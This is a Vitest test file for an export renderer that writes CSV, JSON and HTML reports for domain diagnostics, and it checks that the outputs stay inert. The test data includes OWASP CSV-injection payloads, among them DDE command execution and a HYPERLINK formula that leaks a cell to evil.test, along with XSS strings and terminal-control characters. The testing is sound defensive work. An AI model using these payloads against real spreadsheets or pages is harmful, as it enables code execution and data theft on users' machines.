import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import papaparse from 'papaparse';
import { describe, expect, it } from 'vitest';
import { createTranslator, trendOf } from '../../../diagnostics/index.ts';
import { message } from '../../../diagnostics/model/message.ts';
import type { RunSummary } from '../../../diagnostics/model/run-summary.ts';
import { loadCatalogues } from '../../../main/services/catalogues.ts';
import { LOGO_BYTES, readLogo } from '../../../main/services/exports/logo.ts';
import { renderExport, type ExportFormat } from '../../../main/services/exports/render-export.ts';
import { findResources } from '../../../main/services/resource-paths.ts';
import { aSummarisedProblem, aSummary, dayOf } from '../../support/summary-factories.ts';

const catalogues = await loadCatalogues(findResources());
const at = '2026-11-22T08:00:00.000Z';
const png = (width: number, height: number): Buffer => {
  const bytes = Buffer.alloc(64);
  bytes.write('\u0089PNG\r\n\u001a\n', 0, 'latin1');
  bytes.write('IHDR', 12, 'latin1');
  bytes.writeUInt32BE(width, 16);
  bytes.writeUInt32BE(height, 20);
  return bytes;
};
const render = (
  summaries: readonly RunSummary[],
  format: ExportFormat,
  branding = { name: '', logo: null as string | null },
  language: 'en' | 'fr' | 'nl' = 'en',
): string =>
  renderExport(
    summaries.map((summary) => ({ summary, trend: trendOf([summary]) })),
    format,
    { t: createTranslator(language, catalogues, { timeZone: 'Europe/Brussels' }), branding, at },
  );
const cells = (csv: string): readonly Record<string, string>[] =>
  papaparse.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;

describe('CSV', () => {
  it('has one row a client, with names of columns that are the same in every language', () => {
    const run = aSummary({
      client: 'Bäckerei "Söhne", Liège',
      tags: ['gold', 'web'],
      problems: [aSummarisedProblem()],
    });
    const [row] = cells(render([run], 'csv'));
    expect(row).toMatchObject({
      client: 'Bäckerei "Söhne", Liège',
      domain: 'client.test',
      tags: 'gold web',
      status: 'problems_found',
      problems: '1',
      side: 'provider',
      confidence: 'proven',
      root_cause: 'tls.certificate.expired',
      clause: '3.2',
      problem_since: dayOf(20),
      last_good: '',
    });
    expect(Object.keys(cells(render([run], 'csv', undefined, 'fr'))[0] ?? {})).toEqual(
      Object.keys(row ?? {}),
    );
  });

  it('begins with the mark by which Excel knows the encoding, and ends lines as the standard wants', () => {
    const csv = render([aSummary()], 'csv');
    expect([csv.charCodeAt(0), csv.replaceAll('\r\n', '').includes('\n')]).toEqual([0xfeff, false]);
  });

  // OWASP CSV injection, and what is known to slip through simple filters.
  it.each([
    ['=1+1'],
    [`=cmd|' /C calc'!A0`],
    ['=HYPERLINK("https://evil.test?"&A1,"click")'],
    ['+1+1'],
    ['-2+3+cmd|calc!A0'],
    ['@SUM(1+1)*cmd|calc!A0'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['\n=1+1'],
    [' =1+1'],
    ['\u00a0=1+1'],
    ['\ufeff=1+1'],
    ['＝1+1'],
    ['＋1'],
    ['－1'],
    ['＠SUM(1)'],
    [`"=1+1`],
    [`";=1+1;"`],
    ['harmless;=1+1'],
    ['harmless; @SUM(1)'],
  ])('lets no cell %j begin a formula, wherever a table program cuts it', (payload) => {
    const csv = render([aSummary({ client: payload, tags: [payload], product: payload })], 'csv');
    for (const delimiter of [',', ';', '|', '\t'])
      for (const row of papaparse.parse<readonly string[]>(csv, { delimiter }).data)
        for (const cell of row) expect(cell).not.toMatch(/^["\s\ufeff]*[=+\-@＝＋－＠]/u);
  });
});

describe('JSON', () => {
  it('gives the whole and one line a client, with nothing that steers a terminal', () => {
    const runs = [aSummary({ domain: 'a.test', client: 'x\u009b31m\u202e' }), aSummary({ domain: 'b.test' })];
    const whole = render(runs, 'json');
    const lines = render(runs, 'ndjson').trimEnd().split('\n');
    const parsed = JSON.parse(whole) as { clients: { summary: RunSummary }[]; schemaVersion: number };
    expect([parsed.schemaVersion, parsed.clients.map(({ summary }) => summary)]).toEqual([1, runs]);
    expect(lines.map((line) => (JSON.parse(line) as { summary: RunSummary }).summary)).toEqual(runs);
    expect(whole + lines.join()).not.toMatch(/[\u0080-\u009f\u202e]/u);
  });
});

describe('the page', () => {
  const hostile = '</td><script>alert(1)</script><img src=x onerror=alert(1)>"\'&\u202e';

  it('carries the reseller’s name and logo, the worst first, and what clients share', () => {
    const problem = aSummarisedProblem();
    const page = render(
      [
        aSummary({ domain: 'fine.test' }),
        aSummary({ domain: 'a.test', problems: [problem] }),
        aSummary({ domain: 'b.test', problems: [problem] }),
      ],
      'html',
      { name: 'Bureau Zuid', logo: 'data:image/png;base64,AAAA' },
    );
    expect(page).toContain('<h1><bdi>Bureau Zuid: state of the domains</bdi></h1>');
    expect(page).toContain('<img src="data:image/png;base64,AAAA" alt="Bureau Zuid">');
    expect(page).toContain('<bdi>2 clients:</bdi>');
    expect([...page.matchAll(/<th scope="row"><bdi>(.*?)<\/bdi>/gu)].map(([, name]) => name)).toEqual([
      'a.test',
      'b.test',
      'fine.test',
    ]);
  });

  it('is inert, whatever names, verdicts and branding say', () => {
    const problem = aSummarisedProblem({
      headline: message('report.title', { name: hostile, time: hostile }),
    });
    const page = render(
      [
        aSummary({ displayName: hostile, client: hostile, problems: [problem] }),
        aSummary({ displayName: `${hostile}2`, problems: [problem], undiagnosed: message(hostile) }),
      ],
      'html',
      { name: hostile, logo: 'data:image/svg+xml;base64,AAAA' },
    );
    const tags = new Set([...page.matchAll(/<\/?([a-z0-9]+)/giu)].map(([, tag]) => tag));
    expect(
      [...tags].filter((tag) => ['script', 'img', 'a', 'iframe', 'link', 'form', 'svg'].includes(tag ?? '')),
    ).toEqual([]);
    // No attribute but those that are written here.
    expect(page.replaceAll(/<style>.*?<\/style>/gsu, '').match(/<[^>]*\son\w+=/giu)).toBeNull();
    expect(page).toMatch(/default-src 'none'; style-src 'sha256-[^']+'; img-src data:;/u);
    expect(page).not.toContain('\u202e');
  });
});

describe('a logo', () => {
  const folder = mkdtempSync(join(tmpdir(), 'faultline-logo-'));
  const read = (content: string | Uint8Array) => {
    const path = join(folder, 'logo');
    writeFileSync(path, content);
    return readLogo(path);
  };
  const jpeg = Buffer.from(
    'ffd8ffe000104a46494600010100000100010000ffc0001108003200640301220002110103',
    'hex',
  );

  it.each([
    ['PNG', png(400, 100), /^data:image\/png;base64,iVBORw0KGgo/u],
    ['JPEG', jpeg, /^data:image\/jpeg;base64,\/9j/u],
  ])('in %s is taken', async (_, content, address) => {
    expect(await read(content)).toMatch(address);
  });

  it.each([
    ['an SVG, which can hold a program', '<svg xmlns="http://www.w3.org/2000/svg"/>', 'no_picture'],
    ['a page', '<html>', 'no_picture'],
    ['nothing', '', 'no_picture'],
    ['a picture that unfolds to a wall', png(30_000, 30_000), 'too_wide'],
    ['a picture without points', png(0, 10), 'too_wide'],
    ['a large file', Buffer.concat([png(10, 10), Buffer.alloc(LOGO_BYTES)]), 'too_large'],
  ])('that is %s is refused', async (_, content, key) => {
    await expect(read(content)).rejects.toThrow(`export.logo.${key}`);
  });

  it('that is not there is refused', async () => {
    await expect(readLogo(join(folder, 'nothing.png'))).rejects.toThrow('cli.file.ENOENT');
  });
});
